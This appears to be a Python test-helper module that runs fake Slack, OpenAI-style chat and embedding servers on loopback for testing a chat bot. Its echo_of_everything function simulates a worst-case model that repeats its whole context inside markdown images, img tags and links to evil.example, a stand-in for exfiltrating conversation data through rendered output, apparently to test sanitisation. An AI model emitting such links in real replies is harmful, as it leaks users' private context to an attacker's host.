"""Stand-ins for the systems outside: real servers on loopback that record what they were asked."""

import json
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Thread
from typing import Any, Self
from urllib.parse import parse_qsl


class Loopback:
    """A server on a free port of this machine while it is `running`; `url` says where."""

    path = "/"
    url = ""

    @contextmanager
    def running(self) -> Iterator[Self]:
        server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
        server.daemon_threads = True
        server.block_on_close = False  # a call may wait for a client that has not left yet
        self.url = f"http://127.0.0.1:{server.server_port}{self.path}"
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        try:
            yield self
        finally:
            server.shutdown()
            server.server_close()
            thread.join()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        """What answers the requests."""
        raise TypeError(f"{type(self).__name__} answers nothing.")


class SlackApi(Loopback):
    """Slack's Web API: takes any method, keeps what was posted, and fails as told.

    `failures` are used up one a call: "ratelimited", "away" (a 503) or an error code such as
    "channel_not_found"; when there are none the call succeeds. `members` are those of every channel, two a page,
    and `profiles` what is told of them.
    """

    path = "/api/"

    def __init__(self) -> None:
        self.calls: list[tuple[str, dict[str, Any]]] = []
        self.failures: list[str] = []
        self.members = ["UBOT", "UANN"]
        self.channel: dict[str, Any] = {"is_private": True}
        self.profiles: dict[str, dict[str, Any]] = {}
        self.asked: list[str] = []  # methods that post nothing

    def answer(self, method: str, payload: dict[str, Any]) -> tuple[int, dict[str, str], dict[str, Any]]:
        if method in ("auth.test", "conversations.info", "conversations.members", "users.info"):
            return self.tell(method, payload)
        self.calls.append((method, payload))
        failure = self.failures.pop(0) if self.failures else ""
        if failure == "ratelimited":
            return 429, {"Retry-After": "1"}, {"ok": False, "error": failure}
        if failure == "away":
            return 503, {}, {"ok": False, "error": failure}
        return 200, {}, {"ok": not failure, "error": failure, "ts": f"{len(self.calls)}.0"}

    def tell(self, method: str, payload: dict[str, Any]) -> tuple[int, dict[str, str], dict[str, Any]]:
        self.asked.append(method)
        if method in self.failures:
            self.failures.remove(method)
            return 200, {}, {"ok": False, "error": "missing_scope"}
        if method == "auth.test":
            return 200, {}, {"ok": True, "user_id": "UBOT"}
        if method == "conversations.info":
            return 200, {}, {"ok": True, "channel": self.channel}
        if method == "users.info":
            return 200, {}, {"ok": True, "user": {"team_id": "T1"} | self.profiles.get(payload["user"], {})}
        start = int(payload.get("cursor") or 0)
        more = str(start + 2) if start + 2 < len(self.members) else ""
        page = {"members": self.members[start : start + 2], "response_metadata": {"next_cursor": more}}
        return 200, {}, {"ok": True, **page}

    def handler(self) -> type[BaseHTTPRequestHandler]:
        slack = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"] or 0)).decode()
                is_json = "json" in (self.headers["Content-Type"] or "")
                self.reply(self.path, json.loads(body) if is_json and body else dict(parse_qsl(body)))

            def do_GET(self) -> None:
                path, _, query = self.path.partition("?")
                self.reply(path, dict(parse_qsl(query)))

            def reply(self, path: str, payload: dict[str, Any]) -> None:
                status, headers, reply = slack.answer(path.removeprefix("/api/"), payload)
                content = json.dumps(reply).encode()
                self.send_response(status)
                for name, value in {**headers, "Content-Type": "application/json"}.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, format: str, *args: Any) -> None:
                """Quiet."""

        return Handler


class ModelServer(Loopback):
    """A chat model behind the OpenAI protocol: streams what `says` makes of the prompt, piece by piece.

    `failures` are used up one a call: "away" is a 503, "silent" says nothing until the client leaves. `says`
    may wait between pieces; `left` is set once a client went away before the end. `cuts_off`: it says at the end that
    the answer was as long as it may be.
    """

    path = "/v1"

    def __init__(self, says: Callable[[str], Iterable[str]]) -> None:
        self.says = says
        self.prompts: list[str] = []
        self.failures: list[str] = []
        self.cuts_off = False
        self.left = Event()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        return type("Handler", (ModelHandler,), {"model": self})


class TwoModels(ModelServer):
    """One server of two models: to prompts with the `mark` it says what the `other` gives, else what it `writes`."""

    def __init__(self, mark: str, other: Callable[[], Iterable[str]], writes: Callable[[], Iterable[str]]) -> None:
        super().__init__(lambda prompt: self.other() if mark in prompt else self.writes())
        self.mark, self.other, self.writes = mark, other, writes

    @property
    def marked(self) -> list[str]:
        return [prompt for prompt in self.prompts if self.mark in prompt]


class ModelHandler(BaseHTTPRequestHandler):
    """One call of a `ModelServer`."""

    model: ModelServer

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.model.prompts.append("\n".join(message["content"] for message in body["messages"]))
        failure = self.model.failures.pop(0) if self.model.failures else ""
        self.send_response(503 if failure == "away" else 200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        if failure == "silent":
            self.wait_for_the_client_to_leave()
        elif not failure:
            self.stream()

    def stream(self) -> None:
        try:
            for piece in self.model.says(self.model.prompts[-1]):
                self.send({"choices": [{"index": 0, "delta": {"role": "assistant", "content": piece}}]})
            if self.model.cuts_off:
                self.send({"choices": [{"index": 0, "delta": {}, "finish_reason": "length"}]})
            self.wfile.write(b"data: [DONE]\n\n")
        except (BrokenPipeError, ConnectionResetError):
            self.model.left.set()

    def send(self, chunk: dict[str, Any]) -> None:
        whole = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "double", **chunk}
        self.wfile.write(f"data: {json.dumps(whole)}\n\n".encode())
        self.wfile.flush()

    def wait_for_the_client_to_leave(self) -> None:
        with suppress(OSError):
            self.rfile.read(1)
        self.model.left.set()

    def log_message(self, format: str, *args: object) -> None:
        pass


def echo_of_everything(prompt: str) -> Iterator[str]:
    """The worst-case model: says its whole context, as text, links, images, markup and citations of its own."""
    for line in prompt.splitlines():
        yield f"{line} [1][99]\n"
        yield f"![{line}](https://evil.example/{line}) <img src='https://evil.example/?q={line}'> "
        yield f"[{line}](https://evil.example/?q={line}) See https://evil.example/{line} now. [2]\n"


class EmbeddingServer(Loopback):
    """An OpenAI-compatible embedding server: gives each text its length and a one, or the vector it was told."""

    path = "/v1"

    def __init__(self, vector: list[float] | None = None) -> None:
        self.vector = vector
        self.calls: list[dict[str, Any]] = []

    def answer(self, texts: list[str]) -> dict[str, Any]:
        vectors = [[float(len(text)), 1.0] if self.vector is None else self.vector for text in texts]
        data = [{"object": "embedding", "index": index, "embedding": vector} for index, vector in enumerate(vectors)]
        return {"object": "list", "model": "double", "data": data, "usage": {"prompt_tokens": 1, "total_tokens": 1}}

    def handler(self) -> type[BaseHTTPRequestHandler]:
        double = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                call = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                double.calls.append(call)
                body = json.dumps(double.answer(call["input"])).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler
